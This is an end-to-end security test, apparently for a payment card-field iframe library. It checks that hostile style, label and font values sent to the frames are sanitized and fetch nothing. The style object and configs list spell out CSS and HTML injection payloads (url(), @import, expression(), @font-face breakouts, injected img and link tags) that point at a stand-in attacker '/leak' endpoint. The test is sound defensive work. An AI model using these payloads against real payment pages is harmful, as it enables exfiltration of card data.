// Style injection: a hostile script on the merchant page talks to a field frame itself (it may:
// the page's origin is the allowed one) and sends `configure` with every trick we know for making
// CSS fetch something. The frames make no request anywhere but the frames origin and the vault
// API, and nothing reaches the attacker's server.
import { rawFrameRequest } from '../support/attacks';
import { e2eEnv } from '../support/e2e-env';
import { fieldUrl, takeHostileHits } from '../support/hostile-site';
import { expect, test } from '../support/test';

test('url(), expression(), @import and friends in style make no outbound request from the frames', async ({ page, context }) => {
  const { urls, merchantKey } = e2eEnv();
  const evil = `${urls.hostile}/leak`;
  const fromFrames: string[] = [];
  context.on('request', (r) => {
    const frameUrl = r.frame()?.url() ?? '';
    if (frameUrl.startsWith(urls.frames) && !r.url().startsWith(urls.frames) && !r.url().startsWith(urls.vault)) fromFrames.push(r.url());
  });
  await page.goto(`${urls.merchant}/fields.html?layout=split&pk=${merchantKey}`); // an allowed origin, fields not needed
  await takeHostileHits();
  const warnings: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'warning' && m.text().startsWith('Tokenframe: style.')) warnings.push(m.text());
  });
  // Only keys the message guard accepts (variants, pseudo-classes, camelCase names, short strings), so
  // the configure is delivered and every hostile VALUE reaches the frame's style validator.
  const style = {
    base: {
      color: `red; background: url(${evil}/semicolon)`,
      backgroundImage: `url(${evil}/bg)`,
      background: `url("${evil}/bg2")`,
      fontFamily: `x'; } @import url(${evil}/import); a { b: '`,
      behavior: `url(${evil}/htc)`,
      width: 'expression(fetch("/x"))',
      listStyleImage: `image-set("${evil}/set" 1x)`,
      '::placeholder': { color: `url(${evil}/placeholder)`, content: `url(${evil}/content)` },
      ':focus': { borderImage: `url(${evil}/border) 30` },
      textShadow: `@import url(${evil}/at-import)`,
      textDecoration: `} @font-face { src: url(${evil}/font) } a {`,
    },
    invalid: { color: `var(--x, url(${evil}/var))`, cursor: `url(${evil}/cursor), auto` },
  };
  const configs = [
    { style },
    { ariaLabel: `<img src="${evil}/label">`, placeholder: `"><link rel=stylesheet href="${evil}/placeholder-link">` },
    { fonts: [`${evil}/font.woff2`, 'x" src="url(' + evil + '/fontname)'] },
  ];
  for (const [i, params] of configs.entries()) {
    const src = fieldUrl({ type: 'cardNumber', pk: merchantKey, origin: urls.merchant, mount: crypto.randomUUID().replaceAll('-', '') });
    const reply = await page.evaluate(rawFrameRequest, { src, framesOrigin: urls.frames, method: 'configure', params });
    // The style must be accepted after sanitizing (a reply); the others may also be dropped as
    // malformed (undefined): fine, as long as nothing below was fetched.
    if (i === 0) expect(reply).toMatchObject({ type: 'reply', ok: true });
    else expect([undefined, 'reply']).toContain((reply as { type?: string } | undefined)?.type);
  }
  // Each hostile value was seen, and dropped, by the validator: one warning per entry.
  for (const where of [
    'base.color',
    'base.backgroundImage',
    'base.background',
    'base.fontFamily',
    'base.behavior',
    'base.width',
    'base.listStyleImage',
    "base['::placeholder'].color",
    "base['::placeholder'].content",
    "base[':focus'].borderImage",
    'base.textShadow',
    'base.textDecoration',
    'invalid.color',
    'invalid.cursor',
  ]) {
    await expect.poll(() => warnings.some((w) => w.startsWith(`Tokenframe: style.${where} ignored`)), { message: where }).toBe(true);
  }
  // Let every frame lay out with its (sanitized) style, then look.
  for (const frame of page.frames().filter((f) => f.url().includes('/frames/v1/field.html'))) {
    await frame
      .locator('input')
      .first()
      .evaluate((el) => getComputedStyle(el).backgroundImage);
  }
  expect(fromFrames).toEqual([]);
  expect((await takeHostileHits()).filter((h) => h.includes('/leak'))).toEqual([]);
});
